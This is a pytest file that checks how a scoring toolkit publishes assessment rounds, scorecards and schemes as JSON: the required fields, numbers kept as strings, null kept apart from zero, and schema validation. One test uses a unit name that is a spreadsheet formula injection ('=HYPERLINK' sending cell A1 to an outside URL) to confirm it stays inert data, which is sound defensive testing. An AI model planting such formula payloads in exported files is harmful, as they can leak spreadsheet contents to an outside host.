"""Results as JSON: the shape that is promised, numbers as strings, and null that is never 0."""

import json
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from tests.codes.tree import TINY
from tests.publishing.conftest import Assessed, assessed_in, in_notice, results_in
from tests.publishing.whole import round_object
from toolkit.publishing.objects import scheme_object, scorecard_object
from toolkit.publishing.publish import publish
from toolkit.submissions.repository import Repository
from toolkit.submissions.walk import open_repository

PROMISED = {  # architecture, section 7
    *{"unit", "scheme", "edition", "year", "state", "indicators", "claimed_total", "base"},
    *{"bonus", "total", "rank", "grade", "consequences", "flags", "demo"},
}
PROMISED_OF_INDICATORS = {
    *{"code", "points", "claimed_value", "claimed_score", "verified_value", "verified_score"},
    "how",
}
SCORES = ("claimed_value", "claimed_score", "verified_value", "verified_score")


def cards(scored: Assessed) -> dict[str, dict[str, Any]]:
    return {
        card["unit"].removeprefix("keqiao-demo-"): card
        for card in round_object(*scored)["scorecards"]
    }


def leaves(value: Any, path: tuple[str, ...] = ()) -> Iterator[tuple[tuple[str, ...], Any]]:
    """Yield every value that is no object and no list, with the keys that lead to it."""
    if isinstance(value, dict):
        for key, inner in value.items():
            yield from leaves(inner, (*path, key))
    elif isinstance(value, list):
        for inner in value:
            yield from leaves(inner, path)
    else:
        yield path, value


def test_the_head_of_a_round(demo_round: Assessed) -> None:
    head = {key: each for key, each in round_object(*demo_round).items() if key != "scorecards"}
    assert head.pop("toolkit")
    assert [step["state"] for step in head.pop("steps")] == ["checked", "reviewed", "final"]
    assert [each["kind"] for each in head.pop("decisions")] == ["set-aside"]
    assert "KQC-SENIOR" in {each["reading"] for each in head.pop("readings")}
    assert head.pop("fragile") == {}  # no grades, ranks or money to change
    assert head == {
        "api": "v1",
        "scheme": "keqiao-contact-point",
        "edition": "2018",
        "year": "2018",
        "title": {
            "zh": "2018 年柯桥区学会服务联系点绩效考核",
            "en": "Keqiao contact points, assessment of 2018",
        },
        "state": "reviewed",
        "window": ["2018-01-01", "2018-11-25"],
        "deadline": "2018-11-25",
        "points": "100",
        "demo": True,
        "grades": None,
        "quota": None,
        "notice": None,
        "withheld": None,
        "objections": [],
        "corrections": [],
    }


def test_every_scorecard_has_what_is_promised(demo_round: Assessed) -> None:
    found = cards(demo_round)
    assert list(found) == ["loom", "dyeing", "garden", "digital", "food", "craft"]
    for card in found.values():
        assert card.keys() >= PROMISED
        assert [each["code"] for each in card["indicators"]] == [f"C{n}" for n in range(1, 8)]
        for indicator in card["indicators"]:
            assert indicator.keys() >= PROMISED_OF_INDICATORS


def test_a_reviewed_scorecard(demo_round: Assessed) -> None:
    food = cards(demo_round)["food"]
    totals = {key: food[key] for key in ("claimed_total", "base", "total", "deduction")}
    assert totals == {
        "claimed_total": "69.88",
        "base": "62.38",
        "total": "62.38",
        "deduction": "7.50",
    }
    assert food["class"] == "class-2"
    assert food["status"] == "reviewed"
    assert food["name"]["zh"] == "示例·食品风味学会"
    scores = {each["code"]: tuple(each[key] for key in SCORES) for each in food["indicators"]}
    assert scores == {
        "C1": ("7", "17.50", "6", "15.00"),
        "C2": ("15", "11.25", "15", "11.25"),
        "C3": ("6", "9.00", "6", "9.00"),
        "C4": ("8", "12.00", "8", "12.00"),
        "C5": ("2", "10.00", "1", "5.00"),
        "C6": ("1", "5.00", "1", "5.00"),
        "C7": ("205", "5.13", "205", "5.13"),
    }
    claim, review = food["claim"], food["review"]
    folder = "data/units/keqiao-demo-food/2018"
    assert claim["file"] == f"{folder}/keqiao-contact-point.yml"
    assert claim["sha256"] == "e17533f1cc9da92a6ccb2db8bf8edacd697f717304a0f92bcff93d783070a0c2"
    assert review["file"] == f"{folder}/keqiao-contact-point.review.yml"
    assert review["date"] == "2018-12-05"


def test_an_indicator_with_its_records(demo_round: Assessed) -> None:
    exchanges = cards(demo_round)["food"]["indicators"][4]
    assert exchanges["points"] == "10"
    assert exchanges["asked"] == {"zh": "2 次", "en": "2 events"}
    assert exchanges["article"] == "a1-4-c5"
    assert exchanges["how"]["zh"] == "1 次，目标 2 次，10 × 1 ÷ 2 = 5.00 分。"
    assert exchanges["how_claimed"]["en"] == (
        "With 2 events the target of 2 events is met, which gives full points, 10.00."
    )
    [fact] = exchanges["facts"]
    assert (fact["fact"], fact["claimed"], fact["verified"]) == ("exchanges", "2", "1")
    kept, dropped = fact["records"]
    assert (kept["id"], kept["decision"], kept["counts_as_verified"]) == ("x1", "accepted", True)
    assert (dropped["id"], dropped["decision"]) == ("x2", "corrected")
    assert (dropped["counts_as_claimed"], dropped["counts_as_verified"]) == (True, False)
    assert dropped["note"] == "到场的三位是本区专家"
    assert dropped["line"] == fact["line"] + 2


def test_no_score_is_null_and_null_is_never_zero(demo_round: Assessed) -> None:
    found = cards(demo_round)
    garden, craft = found["garden"], found["craft"]
    totals = ("claimed_total", "base", "total", "deduction")
    assert [garden[key] for key in totals] == ["58.00", None, None, None]
    assert [craft[key] for key in totals] == [None] * 4
    for indicator in garden["indicators"]:
        assert (indicator["verified_value"], indicator["verified_score"]) == (None, None)
        assert indicator["claimed_value"] is not None
        assert indicator["claimed_score"] is not None
    for indicator in craft["indicators"]:
        assert {indicator[key] for key in SCORES} == {None}
    # 0 that was worked out is 0
    assert garden["indicators"][4]["claimed_score"] == "0.00"
    assert garden["indicators"][4]["claimed_value"] == "0"
    assert found["loom"]["indicators"][5]["verified_score"] == "0.00"
    assert (craft["claim"], craft["review"], garden["review"]) == (None, None, None)
    places = {
        (fact["file"], fact["line"]) for each in craft["indicators"] for fact in each["facts"]
    }
    assert places == {(None, None)}


def test_what_this_policy_does_not_have_is_null(demo_round: Assessed) -> None:
    for card in cards(demo_round).values():
        assert (card["rank"], card["grade"], card["consequences"]) == (None, None, [])


def test_published_parts_add_up_to_the_published_total(demo_round: Assessed) -> None:
    for card in cards(demo_round).values():
        for key, total in (("claimed_score", "claimed_total"), ("verified_score", "total")):
            scores = [each[key] for each in card["indicators"]]
            if None in scores:
                assert card[total] is None
            else:
                assert sum(map(Decimal, scores)) == Decimal(card[total])


def test_numbers_are_strings_and_only_lines_are_counted(demo_round: Assessed) -> None:
    kinds = {(path[-1], type(value)) for path, value in leaves(round_object(*demo_round))}
    assert {key for key, kind in kinds if kind in (int, float)} == {"line"}
    assert {kind for _, kind in kinds} == {str, int, bool, type(None)}


def test_one_scorecard_is_the_same_as_in_its_round(demo_round: Assessed) -> None:
    inside = round_object(*demo_round)["scorecards"]
    outcome = demo_round[0]
    assert [scorecard_object(outcome, card) for card in outcome.scored.scorecards] == inside


def test_the_scheme_as_data(demo: Repository) -> None:
    scheme = scheme_object(demo.editions["keqiao-contact-point", "2018"])
    assert scheme["points"] == "100"
    assert [(each["code"], each["points"]) for each in scheme["indicators"]] == [
        *[("C1", "25"), ("C2", "15"), ("C3", "15"), ("C4", "15")],
        *[("C5", "10"), ("C6", "10"), ("C7", "10")],
    ]
    assert scheme["readings"]["G-RANGE"] == "lower-end"
    assert set(scheme["formulas"]) == {"class-1", "class-2"}
    targets = {
        name: [each["value"] for each in constants(formula, "target")]
        for name, formula in scheme["formulas"].items()
    }
    assert targets == {
        "class-1": ["5", "10", "5", "5", "1", "1", "200"],
        "class-2": ["10", "20", "10", "10", "2", "2", "400"],
    }


def constants(formula: dict[str, Any], name: str) -> Iterator[dict[str, Any]]:
    if formula["op"] == "constant" and formula.get("name") == name:
        yield formula
    for part in formula.get("parts", []):
        yield from constants(part, name)


# On disk


@pytest.fixture(scope="module")
def published(demo: Repository, tmp_path_factory: pytest.TempPathFactory) -> Path:
    target = tmp_path_factory.mktemp("site")
    publish(target, results_in(in_notice(demo)), demo)
    return target / "api/v1"


def test_what_is_published(published: Path, demo: Repository) -> None:
    files = {path.relative_to(published).as_posix() for path in published.rglob("*.json")}
    assert {
        "index.json",
        "results/keqiao-contact-point/2018.json",
        "schemes/keqiao-contact-point/2018.json",
        "schema/round.schema.json",
    } <= files
    body = json.loads((published / "results/keqiao-contact-point/2018.json").read_text("utf-8"))
    assert body == round_object(*assessed_in(in_notice(demo)))
    [entry] = json.loads((published / "index.json").read_text("utf-8"))["rounds"]
    for kind in ("json", "csv"):
        assert (published / entry[kind]).is_file()


@pytest.mark.parametrize(
    ("file", "schema"),
    [
        ("results/keqiao-contact-point/2018.json", "round"),
        ("schemes/keqiao-contact-point/2018.json", "scheme"),
        ("units/keqiao-demo-loom.json", "unit"),
        ("index.json", "index"),
    ],
)
def test_what_is_published_is_what_its_schema_says(published: Path, file: str, schema: str) -> None:
    said = json.loads((published / f"schema/{schema}.schema.json").read_text("utf-8"))
    jsonschema.Draft202012Validator.check_schema(said)
    validator = jsonschema.Draft202012Validator(said)
    body = json.loads((published / file).read_text("utf-8"))
    assert list(validator.iter_errors(body)) == []
    assert not validator.is_valid({**body, "extra": 1})
    first = next(iter(body))
    assert not validator.is_valid({key: each for key, each in body.items() if key != first})


@pytest.mark.parametrize("wrong", [62.38, 62, "", "-", "1e3", "62,38"])
def test_the_schema_refuses_a_number_that_is_no_string_of_digits(
    published: Path, demo_round: Assessed, wrong: object
) -> None:
    schema = json.loads((published / "schema/round.schema.json").read_text("utf-8"))
    validator = jsonschema.Draft202012Validator(schema)
    body = round_object(*demo_round)
    assert validator.is_valid(body)
    body["scorecards"][0]["total"] = wrong
    assert not validator.is_valid(body)


def test_dangerous_names_are_data_in_json(hostile_round: Assessed) -> None:
    food = cards(hostile_round)["food"]
    assert food["name"]["en"] == '=HYPERLINK("http://x.org?"&A1,"go, on")'
    assert food["demo"] is False


@pytest.fixture(scope="module")
def prizes(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The tiny organisation: one scheme has grades, money, decisions and an end of status."""
    target = tmp_path_factory.mktemp("prizes")
    tiny = open_repository(TINY, "data")
    publish(target, results_in(in_notice(tiny)), tiny)
    return target / "api/v1"


@pytest.mark.parametrize(
    ("pattern", "schema"),
    [("results/*/*.json", "round"), ("schemes/*/*.json", "scheme"), ("units/*.json", "unit")],
)
def test_outcomes_keep_their_schema(prizes: Path, pattern: str, schema: str) -> None:
    said = json.loads((prizes / f"schema/{schema}.schema.json").read_text("utf-8"))
    validator = jsonschema.Draft202012Validator(said)
    files = sorted(prizes.glob(pattern))
    assert files
    for file in files:
        body = json.loads(file.read_text("utf-8"))
        assert [error.message for error in validator.iter_errors(body)] == [], file


def test_points_left_their_gain_and_the_next_grade(prizes: Path) -> None:
    body = json.loads((prizes / "results/tiny-prize/2019.json").read_text("utf-8"))
    by_unit = {card["unit"]: card for card in body["scorecards"]}
    [row] = by_unit["tiny-gamma"]["indicators"]
    assert row["left"] == "60.00"
    assert row["gain"]["zh"].startswith("再有 60 ")
    assert by_unit["tiny-gamma"]["next_grade"] == {
        "grade": "fair",
        "from": "60",
        "missing": "20.00",
        "score": "verified",
        "limited": False,
        "text": {
            "zh": "离“一般”（60 分起）还差 20.00 分",
            "en": "20.00 points short of “fair” (from 60)",
        },
    }
    assert by_unit["tiny-alpha"]["next_grade"] is None
    assert by_unit["tiny-theta"]["indicators"][0]["left"] is None
    society = json.loads((prizes / "results/tiny-society/2020.json").read_text("utf-8"))
    left = [[row["left"] for row in card["indicators"]] for card in society["scorecards"]]
    # 70 − 50, 40 − 20, 30 − 30, 30 − 21.60; what nobody has verified leaves nothing to tell
    assert left[0] == ["20.00", "20.00", "0.00", "8.40"]
    assert left[2] == [None] * 4


def test_a_round_with_a_tie_money_and_endings(prizes: Path) -> None:
    body = json.loads((prizes / "results/tiny-prize/2020.json").read_text("utf-8"))
    assert body["grades"] == {"good": "1", "fair": "3", "poor": "1"}
    assert body["quota"] == {
        "grade": "good",
        "percent": "25",
        "of": "participants",
        "base": "5",
        "exactly": "1.25",
        "rounding": "floor",
        "allowed": "1",
        "given": ["tiny-alpha"],
        "last": "90.00",
        "tied": ["tiny-alpha", "tiny-beta"],
        "open": False,
    }
    by_unit = {card["unit"].removeprefix("tiny-"): card for card in body["scorecards"]}
    told = {unit: (card["total"], card["rank"], card["grade"]) for unit, card in by_unit.items()}
    assert told == {
        "alpha": ("90.00", "1", "good"),
        "beta": ("90.00", "1", "fair"),
        "gamma": ("30.00", None, "poor"),
        "zeta": ("80.00", "3", "fair"),
        "theta": ("75.00", "4", "fair"),
    }
    follows = {
        unit: [(each["id"], each["amount"], each["decision"]) for each in card["consequences"]]
        for unit, card in by_unit.items()
    }
    assert follows == {
        "alpha": [("subsidy", "4", None), ("cup", "3", "d4")],
        "beta": [("subsidy", "2.5", None), ("praise", None, "d9")],
        "gamma": [
            ("notice", None, None),
            ("mending", None, "d3"),
            ("two-poor", None, None),
            ("closure", None, "d6"),
            ("veto", None, "d8"),
        ],
        "zeta": [
            ("cheating", None, "d5"),
            ("closure", None, None),
            ("closure-claw-back", "10", None),
        ],
        "theta": [("subsidy", "5", None), ("praise", None, "d10")],
    }


def test_the_years_of_a_unit(prizes: Path) -> None:
    body = json.loads((prizes / "units/tiny-gamma.json").read_text("utf-8"))
    years = [
        (each["scheme"], each["round"], each["total"], each["grade"]) for each in body["years"]
    ]
    assert years == [
        ("tiny-prize", "2019", "40.00", "poor"),
        ("tiny-prize", "2020", "30.00", "poor"),
        ("tiny-society", "2020", None, None),
    ]
